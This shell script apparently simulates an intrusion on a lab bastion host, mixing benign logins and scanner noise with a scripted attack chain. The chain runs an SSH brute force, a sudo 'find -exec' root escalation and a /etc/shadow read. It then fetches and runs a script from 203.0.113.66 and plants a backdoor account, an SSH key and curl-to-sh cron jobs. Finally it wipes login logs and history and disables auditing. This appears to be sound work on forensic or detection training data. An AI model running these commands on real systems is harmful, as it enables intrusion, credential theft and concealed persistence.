# bastion-01: a password guessed over ssh, sudo misused, a root shell, persistence, and the tracks covered.

bastion=10.20.1.10

by_key() { # by_key USER ADDRESS COMMAND...
  local user=$1 address=$2; shift 2
  on office ssh "${ssh_options[@]}" -b "$address" -i "/srv/key-$user" "$user@$bastion" "$@" </dev/null >/dev/null 2>&1 || true
}

by_password() { # by_password HOST USER PASSWORD [ssh arguments...]; standard input is the session's
  local host=$1 user=$2 password=$3; shift 3
  on "$host" sshpass -p "$password" ssh "${ssh_options[@]}" -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 "$user@$bastion" "$@" || true
}

# A morning's work: key logins, an administrator's sudo, a colleague who mistypes twice and then gets it right.
bastion_morning() {
  by_key vtquang 10.20.9.15 uptime
  feed <<'SESSION' | on office ssh -tt "${ssh_options[@]}" -b 10.20.9.15 -i /srv/key-vtquang "vtquang@$bastion" >/dev/null 2>&1 || true
sudo tail -n 3 /var/log/auth.log
Song-Sai-Gon-77
Song-Sai-Gon-88
sudo ls /etc/cron.d
sudo chage -l nthoa
df -h
curl -s -o /dev/null http://10.20.2.20/
exit
SESSION
  by_password office nthoa Ben-Thanh-1921 -b 10.20.9.31 true </dev/null >/dev/null 2>&1
  sleep 2
  by_password office nthoa ben-thanh-1912 -b 10.20.9.31 true </dev/null >/dev/null 2>&1
  sleep 2
  feed <<'SESSION' | by_password office nthoa Ben-Thanh-1912 -b 10.20.9.31 -tt >/dev/null 2>&1 || true
ls -la
sudo cat /var/log/syslog
Ben-Thanh-1912
exit
SESSION
  by_key svc-gis 10.20.9.44 rsync --version
}

# The usual background of the internet: one try here and there.
bastion_noise() {
  on scanner sshpass -p pi ssh "${ssh_options[@]}" -o PubkeyAuthentication=no "pi@$bastion" true </dev/null >/dev/null 2>&1 || true
  on scanner bash -c "exec 3<>/dev/tcp/$bastion/22; read -r -t 2 <&3; printf 'GET / HTTP/1.0\r\n\r\n' >&3; sleep 1" >/dev/null 2>&1 || true
}

bastion_brute_force() {
  on attacker hydra -t 4 -f -u -L /srv/users.txt -P /srv/passwords.txt "ssh://$bastion" </dev/null >/dev/null 2>&1 || true
}

# With the guessed password: look around, try sudo, find the hole, become root, stay.
bastion_intrusion() {
  feed <<'SESSION' | by_password attacker ltminh minh@123 -tt >/dev/null 2>&1 || true
id
uname -a
cat /etc/passwd
sudo cat /etc/shadow
minh@123
sudo -l
sudo find /etc/hostname -exec /bin/sh \;
id
cat /etc/shadow
curl -s http://203.0.113.66:8080/u.sh -o /tmp/.u.sh
chmod +x /tmp/.u.sh
/tmp/.u.sh
useradd -m -s /bin/bash svc-update
echo 'svc-update:Cap-Nhat-2026' | chpasswd
usermod -aG sudo svc-update
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDemoDemoDemoDemoDemoDemoDemoDemoDemoDemoDemo x@x' | tee -a /home/ltminh/.ssh/authorized_keys
echo '* * * * * root /bin/sh /tmp/.u.sh >/dev/null 2>&1' | tee /etc/cron.d/system-update
(crontab -l -u ltminh 2>/dev/null; echo '*/10 * * * * curl -s http://203.0.113.66:8080/u.sh | sh') | crontab -u ltminh -
crontab -l -u ltminh
truncate -s 0 /var/log/wtmp
rm -f /var/log/btmp
ln -sf /dev/null /home/ltminh/.bash_history
exit
exit
SESSION
}

# Back through the account that was made, from elsewhere; the last act switches auditing off.
bastion_return() {
  feed <<'SESSION' | on scanner sshpass -p Cap-Nhat-2026 ssh -tt "${ssh_options[@]}" -o PubkeyAuthentication=no "svc-update@$bastion" >/dev/null 2>&1 || true
sudo -i
Cap-Nhat-2026
whoami
auditctl -e 0
exit
exit
SESSION
}

play_bastion() {
  start_daemons bastion-01
  on attacker php -S 203.0.113.66:8080 -t /srv/drop </dev/null >/dev/null 2>&1 &
  bastion_morning
  bastion_noise
  bastion_brute_force
  by_key svc-gis 10.20.9.44 rsync --version
  sleep 4
  bastion_intrusion
  sleep 61 # cron runs what was planted
  bastion_return
  stop_daemons bastion-01
}
